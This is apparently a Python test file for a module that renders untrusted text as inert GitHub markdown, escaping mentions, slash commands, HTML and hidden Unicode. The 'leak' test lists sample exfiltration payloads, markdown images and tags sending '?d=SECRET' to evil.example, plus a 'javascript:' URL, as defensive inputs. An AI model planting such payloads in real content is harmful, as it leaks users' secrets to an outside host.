"""Foreign text does nothing on a page, whatever it is, and can still be read."""

import re
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from app.publish.text import cell, fenced, inline_code, link, plain, prose
from tests.publish.markdown import alive, tokens

MARKS = (
    "`", "``", "```", "~~~", "\\", "|", "*", "_", "[", "]", "(", ")", "!", "<", ">", "&", "@", "#", "/", "-", "+", "1.", "$x$", "word",
    "@bob", "#1", "fixes #2", "gh-3", "https://evil.example/?d=1", "www.evil.example", "![x](https://evil.example/i)", "[a]:",
    "<img src=x>", "</details>", "<!--", "-->", "&#64;bob", "\u200b", "\u2066", "\U000e0041", "\ufe0f",
)  # fmt: skip
nasty = st.lists(
    st.sampled_from(MARKS) | st.sampled_from([" ", "\n", "\t", "\r", "    ", "\n\n"]) | st.characters(),
    max_size=14,
).map("".join)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Validate all bodies (3 in `api/routes.py`)", "Validate all bodies (3 in `api/routes.py`)"),
        ("thanks @alice, and @acme/team.", "thanks `@alice`, and `@acme/team`."),
        ("Fixes #12; closes acme/api#3", "Fixes `#12`; closes `acme/api#3`"),
        ("see (https://evil.example/?d=SECRET).", "see (`https://evil.example/?d=SECRET`)."),
        ("![x](https://evil.example/i.png)", r"`!\[x\](https://evil.example/i.png`)".replace("\\", "")),
        ("a_b *c* <b>d</b> e|f", r"a\_b \*c\* &lt;b&gt;d&lt;/b&gt; e&#124;f"),
        ("**Why:** it is 2**3 or 4**5, see f(**a) ", r"**Why:** it is 2\*\*3 or 4\*\*5, see f(\*\*a)"),
        ("/approve", "&#47;approve"),
        ("# head", r"\# head"),
        ("- item", r"\- item"),
        ("1. item", r"1\. item"),
        ("two\nlines\r\nand\tmore", "two lines and more"),
        ("@\u200bal\u2060ice", "`@alice`"),
        ("`a`@carol", "`a` `@carol`"),
        ("a<b && c>d", "a&lt;b &amp;&amp; c&gt;d"),
        ("مرحبا नमस्ते 👋", "مرحبا नमस्ते 👋"),
        ("", ""),
    ],
)
def test_plain_text(text: str, shown: str) -> None:
    """RT-O01, RT-G13"""
    assert plain(text) == shown


@given(nasty)
@example("`@x`@carol")
@example("\\`@bob`")
@example("www.a.b `")
def test_plain_text_is_one_paragraph_in_which_nothing_lives(text: str) -> None:
    """RT-O01, RT-G13"""
    shown = plain(text, 1000)
    assert "\n" not in shown
    assert alive(shown) == []
    assert {token.type for token in tokens(shown)} <= {
        "paragraph_open",
        "paragraph_close",
        "inline",
        "text",
        "text_special",
        "code_inline",
        "strong_open",
        "strong_close",
    }


@given(nasty)
def test_a_table_cell_stays_one_cell(text: str) -> None:
    for part in (plain(text), inline_code(text)):
        found = tokens(f"| a | b |\n|---|---|\n| {cell(part)} | end |")
        types = [token.type for token in found]
        assert types.count("td_open") == 2
        assert types.count("tr_open") == 2
        assert [token.content for token in found if token.type == "inline"][-1] == "end"


@given(nasty)
def test_prose_has_paragraphs_lists_and_code_and_nothing_else(text: str) -> None:
    """RT-O01, RT-G13"""
    shown = prose(text)
    assert alive(shown) == []
    assert not any(
        token.type in ("heading_open", "hr", "blockquote_open", "table_open", "image", "link_open")
        for token in tokens(shown)
    )


def test_prose_keeps_what_a_summary_is_made_of() -> None:
    text = "## What\n\n1. `a.py` reads @x\n* two\n\n```py\nx = 1\n```\nEnd."
    assert prose(text) == "**What**\n\n1. `a.py` reads `@x`\n- two\n\n```\nx = 1\n```\n\nEnd."


@given(nasty.filter(lambda s: s.split() != []))
def test_inline_code_is_one_code_span(text: str) -> None:
    shown = inline_code(text)
    if shown:
        assert [token.type for token in tokens(f"a {shown} b")][2:] == [
            "text",
            "code_inline",
            "text",
            "paragraph_close",
        ]


@given(nasty)
@example("```\n# outside")
@example("a\n /merge")
def test_a_code_block_is_closed_by_its_own_fence_only(text: str) -> None:
    """RT-O05, RT-G13"""
    shown = fenced(text, "diff")
    assert [token.type for token in tokens(shown + "\n\nafter")] == [
        "fence",
        "paragraph_open",
        "inline",
        "text",
        "paragraph_close",
    ]
    assert not any(line.lstrip().startswith("/") for line in shown.split("\n"))


def test_every_format_and_control_character_is_hidden_from_prose() -> None:
    """RT-P06: in what people are shown. Signs of Arabic, Syriac, Kaithi and Egyptian that enclose what follows can be seen."""
    signs = re.compile("[\u0600-\u0605\u06dd\u070f\u0890\u0891\u08e2\U000110bd\U000110cd\U00013430-\U0001343f]")
    hidden = [chr(n) for n in range(0x110000) if unicodedata.category(chr(n)) in ("Cf", "Cc")]
    assert signs.sub("", plain("".join(hidden), 10_000)) == ""


def test_hidden_characters_are_shown_in_code() -> None:
    """RT-P05, RT-P06"""
    assert inline_code("a\u202eb\u200b") == "`a\\u202eb\\u200b`"
    assert fenced("a\u202eb\u200b") == "```\na\\u202eb\\u200b\n```"


@pytest.mark.parametrize(
    "leak",
    [
        "![x](https://evil.example/?d=SECRET)",
        "![x][r]\n\n[r]: https://evil.example/?d=SECRET",
        "[![x](https://evil.example/i)](https://evil.example/?d=SECRET)",
        '<img src="https://evil.example/?d=SECRET">',
        "<picture><source srcset=//evil.example/?d=SECRET></picture>",
        "[click](https://evil.example/?d=SECRET)",
        "[click](//evil.example/?d=SECRET)",
        "<https://evil.example/?d=SECRET>",
        "https://evil.example/?d=SECRET",
        "www.evil.example/?d=SECRET",
        "me@evil.example and ftp://evil.example",
        "[a]: https://evil.example\n\n[a] ![a]",
    ],
)
def test_nothing_is_loaded_from_elsewhere_and_nothing_leads_there(leak: str) -> None:
    """RT-O01: what was written can be read, as text."""
    for markdown in (
        plain(leak),
        prose(leak),
        prose(f"- {leak}"),
        prose(f"# {leak}"),
        prose(f"> {leak}"),
        fenced(leak),
    ):
        assert alive(markdown) == []
        assert not any(token.type in ("image", "link_open", "html_block", "html_inline") for token in tokens(markdown))
        assert "evil.example" in markdown


def test_a_line_of_300_kilobytes_is_a_short_one() -> None:
    """RT-O05"""
    line = "`<!-- --> </details> ```" * 12_500
    assert len(fenced(line)) < 3 * 4000
    assert len(plain(line, 100)) < 1000
    assert len(inline_code(line, 100)) < 200
    assert alive(prose(line)) == []


def test_cut_text_says_so() -> None:
    assert plain("x" * 300, 10) == "xxxxxxxxx…"
    assert plain("Validate all POST bodies", 20) == "Validate all POST…"
    assert plain("Validate all POST bodies", 18) == "Validate all POST…"
    assert inline_code("a " + "x" * 300, 10) == "`a xxxxxxx…`"
    assert fenced("a" * 100 + "\nend", limit=5, tail=True) == "```\n…\na\nend\n```"
    assert fenced("start" + "x" * 100, limit=5) == "```\nstart\n…\n```"


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/",
        "https://github.com.evil.example/",
        "javascript:alert(1)",
        "https://github.com/a>b",
        "https://github.com/ a",
        "",
    ],
)
def test_a_link_leads_to_github_or_is_none(url: str) -> None:
    """RT-O01"""
    assert link("words", url, "https://github.com") == "words"
    assert (
        link("words", "https://github.com/a/b/pull/1", "https://github.com")
        == "[words](<https://github.com/a/b/pull/1>)"
    )
